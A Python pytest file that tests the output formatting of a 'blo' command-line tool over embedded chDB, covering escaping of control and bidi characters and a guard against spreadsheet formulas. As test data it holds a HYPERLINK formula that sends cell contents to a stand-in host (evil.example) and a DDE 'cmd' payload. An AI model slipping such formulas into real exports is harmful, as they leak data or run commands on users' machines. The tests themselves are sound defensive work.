"""`blo query`, `blo stats`, `blo dlq list` and `blo stations list` against embedded chDB
(no worker: the CLI opens the directory itself), through click's CliRunner: headers, JSON
Lines objects, CSV, tables that fit, escaped control and bidi characters."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import UTC, datetime
from typing import Any

import pytest
from click.testing import CliRunner, Result

from blo.cli import main
from blo.localservices.tansu import free_port
from sinks.chdb import ChdbDatabase
from sinks.tables import DLQ, STATIONS, WINDOW_STATS

T0 = int(datetime(2024, 5, 1, 10, 0, tzinfo=UTC).timestamp())


def utc(t: int) -> datetime:
    return datetime.fromtimestamp(t, UTC)
EVIL = "bad\nfield\x00 \u202eexe.txt\x85 \u2066x\u2069\x7f"


def run(db: ChdbDatabase, *args: str, columns: int | None = None) -> Result:
    env = {"BLO_CLICKHOUSE_URL": f"chdb://{db.path}?database={db.database}",
           "BLO_WEB_PORT": str(free_port()),  # no worker there: the directory is read directly
           "COLUMNS": str(columns) if columns else ""}
    res = CliRunner().invoke(main, list(args), env=env)
    assert res.exit_code == 0, (res.output, res.exception)
    return res


def dlq_row(n: int, **over: Any) -> tuple[Any, ...]:
    fields: dict[str, Any] = {
        "dlq_id": f"d{n}", "failed_at": utc(T0 + n), "reason": "invalid",
        "reasons": ["invalid", "unknown_station"], "details": f"problem {n}",
        "station_id": "KZ-NURZHOL", "event_type": "crossing", "event_id": "", "kafka_topic":
        "blo.events.raw", "kafka_partition": 0, "kafka_offset": 100 + n, "element_index": -1,
        "payload": "{}", "payload_encoding": "utf-8", "payload_size": 2,
        "payload_sha256": "ab" * 32, "payload_truncated": 0}
    fields.update(over)
    return tuple(fields[c] for c in DLQ.column_names)


def station_row(sid: str, valid_from: int, updated_at: int, **over: Any) -> tuple[Any, ...]:
    fields: dict[str, Any] = {
        "station_id": sid, "valid_from": utc(valid_from), "name": sid.title(),
        "country": sid[:2], "agency": "border_guard", "crossing_point": "Road crossing",
        "neighbour_country": "KG", "border": "KG-KZ", "paired_blo": "", "lat": 43.0,
        "lon": 74.0, "tz": "Asia/Almaty", "coord_source": "", "coord_approximate": 1,
        "active": 1, "updated_at": utc(updated_at)}
    fields.update(over)
    return tuple(fields[c] for c in STATIONS.column_names)


# -- blo query -------------------------------------------------------------------------------

SQL = ("SELECT number AS n, concat('row ', toString(number)) AS label, "
       "[toString(number), 'x,y'] AS tags FROM system.numbers LIMIT 3")


@pytest.fixture
def numbers(chdb_db: ChdbDatabase) -> ChdbDatabase:
    """A table to query (system.numbers is not readable by readers)."""
    chdb_db.command(f"CREATE TABLE {chdb_db.database}.t (n UInt64, label String, "
                    "note Nullable(String)) ENGINE = MergeTree ORDER BY n")
    chdb_db.insert("t", ("n", "label", "note"),
                   [(1, "one", None), (2, 'say "hi", twice', "a\nb"), (3, EVIL, "\u202e")])
    return chdb_db


def test_query_table_has_column_headers(numbers: ChdbDatabase) -> None:
    out = run(numbers, "query", f"SELECT n, label AS what, n * 2 FROM {numbers.database}.t "
                                "ORDER BY n").stdout.splitlines()
    assert out[0].split() == ["n", "what", "multiply(n,", "2)"]
    assert set(out[1]) == {"-", " "}
    assert out[2].split() == ["1", "one", "2"]
    assert len(out) == 5  # header, rule, three rows: the newline in row 3 did not break it


def test_query_table_escapes_control_and_bidi_characters(numbers: ChdbDatabase) -> None:
    out = run(numbers, "query", f"SELECT label, note FROM {numbers.database}.t WHERE n = 3"
              ).stdout
    assert "bad\\nfield\\x00 \\u202eexe.txt\\x85 \\u2066x\\u2069\\x7f  \\u202e" in out
    for raw in ("\x00", "\u202e", "\x85", "\u2066", "\x7f"):
        assert raw not in out


def test_query_json_is_one_object_per_row(numbers: ChdbDatabase) -> None:
    out = run(numbers, "query", "--format", "json",
              f"SELECT n, label, note FROM {numbers.database}.t ORDER BY n").stdout
    docs = [json.loads(line) for line in out.splitlines()]
    assert docs == [{"n": 1, "label": "one", "note": None},
                    {"n": 2, "label": 'say "hi", twice', "note": "a\nb"},
                    {"n": 3, "label": EVIL, "note": "\u202e"}]
    for raw in ("\x00", "\u202e", "\x85", "\u2066", "\x7f"):
        assert raw not in out  # escaped in the JSON text, exact once decoded


def test_query_csv_has_a_header_row_and_quotes(numbers: ChdbDatabase) -> None:
    out = run(numbers, "query", "--format", "csv",
              f"SELECT n, label, note FROM {numbers.database}.t ORDER BY n").stdout
    assert out.splitlines()[0] == "n,label,note"
    assert list(csv.reader(io.StringIO(out)))[1:] == [
        ["1", "one", ""], ["2", 'say "hi", twice', "a\nb"], ["3", EVIL, "\u202e"]]


def test_query_with_no_rows_still_names_its_columns(numbers: ChdbDatabase) -> None:
    sql = f"SELECT n, label FROM {numbers.database}.t WHERE n > 10"
    assert run(numbers, "query", sql).stdout.splitlines() == ["n  label", "-  -----",
                                                              "(no rows)"]
    assert run(numbers, "query", "--format", "csv", sql).stdout == "n,label\n"
    assert run(numbers, "query", "--format", "json", sql).stdout == ""


def test_query_names_columns_of_statements_describe_cannot(numbers: ChdbDatabase) -> None:
    out = run(numbers, "query", "--format", "json", f"SHOW TABLES FROM {numbers.database}")
    docs = [json.loads(line) for line in out.stdout.splitlines()]
    assert {"name": "t"} in docs and {"name": "dlq"} in docs
    assert all(list(d) == ["name"] for d in docs)


def test_query_tsv_is_rows_only(numbers: ChdbDatabase) -> None:
    out = run(numbers, "query", "--format", "tsv",
              f"SELECT n, note FROM {numbers.database}.t ORDER BY n").stdout
    assert out.splitlines() == ["1\t\\N", "2\ta\\nb", "3\t\u202e"]


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def formulas(chdb_db: ChdbDatabase) -> ChdbDatabase:
    """Stored text a spreadsheet would run as a formula, beside negative numbers."""
    chdb_db.command(f"CREATE TABLE {chdb_db.database}.f (n UInt64, label String, "
                    "x Float64, k Int64) ENGINE = MergeTree ORDER BY n")
    chdb_db.insert("f", ("n", "label", "x", "k"),
                   [(1, HYPERLINK, -3.5, -7), (2, "-2+3+cmd|' /C calc'!A0", 2.0, 0),
                    (3, "-3.5", -0.25, -1)])
    return chdb_db


def test_query_csv_and_tsv_write_formulas_as_text_and_numbers_as_numbers(
        formulas: ChdbDatabase) -> None:
    sql = f"SELECT label, x, k FROM {formulas.database}.f ORDER BY n"
    out = run(formulas, "query", "--format", "csv", sql).stdout
    assert list(csv.reader(io.StringIO(out))) == [
        ["label", "x", "k"], ["'" + HYPERLINK, "-3.5", "-7"],
        ["'-2+3+cmd|' /C calc'!A0", "2.0", "0"], ["-3.5", "-0.25", "-1"]]
    assert run(formulas, "query", "--format", "tsv", sql).stdout.splitlines() == [
        f"'{HYPERLINK}\t-3.5\t-7", "'-2+3+cmd|' /C calc'!A0\t2.0\t0", "-3.5\t-0.25\t-1"]
    raw = run(formulas, "query", "--format", "csv", "--no-formula-guard", sql).stdout
    assert [r[0] for r in csv.reader(io.StringIO(raw))][1:] == [
        HYPERLINK, "-2+3+cmd|' /C calc'!A0", "-3.5"]
    # JSON and tables are not spreadsheet input: exact values
    doc = json.loads(run(formulas, "query", "--format", "json", sql).stdout.splitlines()[0])
    assert doc["label"] == HYPERLINK and doc["x"] == -3.5


def test_query_table_fits_the_terminal_unless_wide(numbers: ChdbDatabase) -> None:
    sql = f"SELECT n, repeat('x', 300) AS long FROM {numbers.database}.t ORDER BY n"
    fitted = run(numbers, "query", sql, columns=50).stdout.splitlines()
    assert all(len(line) <= 50 for line in fitted)
    assert fitted[2].endswith("…")
    wide = run(numbers, "query", "--wide", sql, columns=50).stdout.splitlines()
    assert wide[2].endswith("x" * 300)


# -- blo stats -------------------------------------------------------------------------------

def test_stats_prints_the_window_status_as_a_word(chdb_db: ChdbDatabase) -> None:
    def window(country: str, status: str, version: int) -> tuple[Any, ...]:
        return ("1h", utc(T0), utc(T0 + 3600), "", f"{country}-POST", country, "", "UTC", "crossing",
                "", "", 5, 5, 0, 0, 5, 0, 0.0, 0.0, 0, 0, 0.0, utc(T0), utc(T0 + 60), status,
                version, utc(T0 + version))

    chdb_db.insert("window_stats", WINDOW_STATS.column_names,
                   [window("KZ", "provisional", 1), window("KG", "final", 2)])
    out = run(chdb_db, "stats").stdout
    hours = out[out.index("Latest hours by country"):].splitlines()
    assert hours[1].split()[-1] == "status"
    rows = {line.split()[2]: line.split()[-1] for line in hours[3:5]}
    assert rows == {"KG": "final", "KZ": "provisional"}
    assert "[" not in out[out.index("Latest hours"):]


# -- blo dlq list ----------------------------------------------------------------------------

@pytest.fixture
def letters(chdb_db: ChdbDatabase) -> ChdbDatabase:
    chdb_db.insert("dlq", DLQ.column_names, [
        dlq_row(1),
        dlq_row(2, details="x" * 150 + "END"),
        dlq_row(3, details=f"line one\nline two {EVIL}", station_id="KG-\u202eEVIL"),
    ])
    return chdb_db


def test_dlq_list_keeps_one_line_per_letter_and_escapes(letters: ChdbDatabase) -> None:
    lines = run(letters, "dlq", "list").stdout.splitlines()
    assert lines[0].split() == ["failed_at", "reason", "station", "type", "part", "offset",
                                "elem", "bytes", "details"]
    assert len(lines) == 5  # header, rule, three letters, newest first
    assert lines[2].startswith("2024-05-01 10:00:03  invalid  KG-\\u202eEVIL")
    assert lines[2].endswith("line one\\nline two bad\\nfield\\x00 \\u202eexe.txt\\x85 "
                             "\\u2066x\\u2069\\x7f")
    assert lines[3].endswith("x" * 150 + "END")  # no fixed cut at 100 characters


def test_dlq_list_fits_the_terminal_unless_wide(letters: ChdbDatabase) -> None:
    fitted = run(letters, "dlq", "list", columns=100).stdout.splitlines()
    assert all(len(line) <= 100 for line in fitted)
    assert fitted[3].endswith("…")
    wide = run(letters, "dlq", "list", "--wide", columns=100).stdout.splitlines()
    assert wide[3].endswith("x" * 150 + "END")


def test_dlq_list_json_is_one_object_per_letter_with_raw_values(letters: ChdbDatabase) -> None:
    out = run(letters, "dlq", "list", "--json", "--station", "KG-\u202eEVIL").stdout
    assert "\u202e" not in out and "\x00" not in out
    docs = [json.loads(line) for line in out.splitlines()]
    assert len(docs) == 1
    d = docs[0]
    assert d["details"] == f"line one\nline two {EVIL}"
    assert d["station_id"] == "KG-\u202eEVIL"
    assert d["failed_at"] == "2024-05-01T10:00:03Z"
    assert d["reasons"] == ["invalid", "unknown_station"]
    assert (d["kafka_offset"], d["element_index"], d["payload_truncated"]) == (103, -1, False)
    assert "payload" not in d


# -- blo stations list -----------------------------------------------------------------------

@pytest.fixture
def registry(chdb_db: ChdbDatabase) -> ChdbDatabase:
    now = int(time.time())
    chdb_db.insert("stations", STATIONS.column_names, [
        station_row("KZ-NURZHOL", T0, T0, name="Old name"),
        station_row("KZ-NURZHOL", T0, T0 + 10, name="Nur Zholy"),  # same record, corrected
        station_row("KZ-NURZHOL", T0 + 86_400, T0 + 86_400, name="Nur Zholy 2",
                    active=0),  # a later record: in force now
        station_row("KZ-NURZHOL", now + 86_400 * 30, now, name="Future"),  # not yet
        station_row("KZ-ALMATY-AIRPORT", T0, T0, name="Almaty airport",
                    neighbour_country="", border="", tz="Asia/Almaty"),
        station_row("KG-KARAMYK", T0, T0, country="KG", neighbour_country="TJ",
                    border="KG-TJ", tz="Asia/Bishkek", name="Kara\u202eMyk"),
        station_row("TJ-LATER", now + 86_400, now, country="TJ", tz="Asia/Dushanbe"),
    ])
    return chdb_db


def test_stations_list_shows_the_record_in_force(registry: ChdbDatabase) -> None:
    lines = run(registry, "stations", "list").stdout.splitlines()
    assert lines[0].split() == ["station", "name", "country", "agency", "border", "tz",
                                "active", "valid_from"]
    rows = {line.split()[0]: line for line in lines[2:]}
    assert list(rows) == ["KG-KARAMYK", "KZ-ALMATY-AIRPORT", "KZ-NURZHOL", "TJ-LATER"]
    assert "Nur Zholy 2" in rows["KZ-NURZHOL"] and " no " in rows["KZ-NURZHOL"]
    assert rows["KZ-ALMATY-AIRPORT"].split()[5] == "interior"
    assert "Kara\\u202eMyk" in rows["KG-KARAMYK"] and "KG-TJ" in rows["KG-KARAMYK"]
    assert "\u202e" not in "\n".join(lines)


def test_stations_list_json_and_csv_and_country(registry: ChdbDatabase) -> None:
    out = run(registry, "stations", "list", "--format", "json", "--country", "kz").stdout
    docs = {d["station_id"]: d for d in map(json.loads, out.splitlines())}
    assert list(docs) == ["KZ-ALMATY-AIRPORT", "KZ-NURZHOL"]
    nz = docs["KZ-NURZHOL"]
    assert (nz["name"], nz["active"], nz["valid_from"]) == ("Nur Zholy 2", False,
                                                             "2024-05-02T10:00:00Z")
    air = docs["KZ-ALMATY-AIRPORT"]
    assert (air["border"], air["neighbour_country"], air["paired_blo"], air["tz"]) == (
        "interior", None, None, "Asia/Almaty")
    assert (air["lat"], air["coord_approximate"], air["active"]) == (43.0, True, True)
    text = run(registry, "stations", "list", "--format", "csv", "--country", "KG").stdout
    table = list(csv.DictReader(io.StringIO(text)))
    assert [(r["station_id"], r["name"], r["border"], r["tz"], r["active"]) for r in table] == [
        ("KG-KARAMYK", "Kara\u202eMyk", "KG-TJ", "Asia/Bishkek", "True")]


def test_stations_list_refuses_a_bad_country(chdb_db: ChdbDatabase) -> None:
    res = CliRunner().invoke(main, ["stations", "list", "--country", "K'Z"],
                             env={"BLO_CLICKHOUSE_URL": f"chdb://{chdb_db.path}"})
    assert res.exit_code == 2 and "not a country code" in res.output
